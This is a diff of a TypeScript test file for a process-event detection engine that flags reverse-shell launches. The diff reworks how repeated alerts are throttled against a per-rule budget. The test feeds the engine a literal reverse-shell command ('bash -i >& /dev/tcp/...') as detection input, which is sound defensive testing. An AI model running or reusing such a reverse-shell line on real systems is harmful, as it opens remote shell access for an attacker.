@@ -65,12 +65,12 @@ describe('Engine', () => {
   });
   afterAll(() => removeTree(root));
 
-  async function engine(clock: SteppedClock, emitEvents = false): Promise<Engine> {
+  async function engine(clock: SteppedClock, emitEvents = false, perRuleBudget?: number): Promise<Engine> {
     const { ruleSet } = await loadRuleSet();
     if (ruleSet === null) throw new Error('bundled rules failed to load');
     const stream = new ProcessEventStream({ procfs, host: HOST, clock });
     stream.seed();
-    return new Engine({ stream, rules: ruleSet, throttle: new AlertThrottle(clock, { windowMs: 60_000 }), clock, emitEvents });
+    return new Engine({ stream, rules: ruleSet, throttle: new AlertThrottle(clock, { windowMs: 60_000, perRuleBudget }), clock, emitEvents });
   }
 
   it('alerts on setsid launched from a shell with a /dev/tcp redirect, attributed to the wrapper', async () => {
@@ -109,20 +109,25 @@ describe('Engine', () => {
     ]);
   });
 
-  it('holds back repeats of the same alert and reports their count when the window closes', async () => {
+  it('alerts on every launch at the time; a rule past its budget is summarised by its latest occurrence', async () => {
     const clock = new SteppedClock();
-    const e = await engine(clock);
+    const e = await engine(clock, false, 3);
     const out = collector();
     const payload = 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1';
-    for (let i = 0; i < 5; i++) e.handleBatch(reverseShellLaunch(400 + i, payload), out);
-    const seedCount = (): number => out.alerts.filter((a) => (a.rule as { id: string }).id === '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39').length;
-    expect(seedCount()).toBe(1);
+    const seed = (): Array<Record<string, unknown>> => out.alerts.filter((a) => (a.rule as { id: string }).id === '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39');
+    for (let i = 0; i < 3; i++) {
+      e.handleBatch(reverseShellLaunch(400 + i, payload), out);
+      expect(seed()).toHaveLength(i + 1); // at the time of the launch
+    }
+    for (let i = 3; i < 5; i++) e.handleBatch(reverseShellLaunch(400 + i, payload), out);
+    expect(seed()).toHaveLength(3);
     clock.advance(61_000);
     e.flushThrottled(out);
-    expect(seedCount()).toBe(2);
-    const summary = out.alerts.filter((a) => (a.rule as { id: string }).id === '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39')[1]!;
-    expect((summary.execwarden as { throttle: { suppressed: number } }).throttle.suppressed).toBe(4);
-    expect(String(summary.message)).toContain('repeated 4 more times');
+    expect(seed()).toHaveLength(4);
+    const summary = seed()[3]!;
+    expect((summary.execwarden as { throttle: { suppressed: number } }).throttle.suppressed).toBe(2);
+    expect((summary.process as { pid: number }).pid).toBe(404);
+    expect(String(summary.message)).toContain('2 more times');
   });
 
   it('counts a raw event it cannot handle and goes on', async () => {
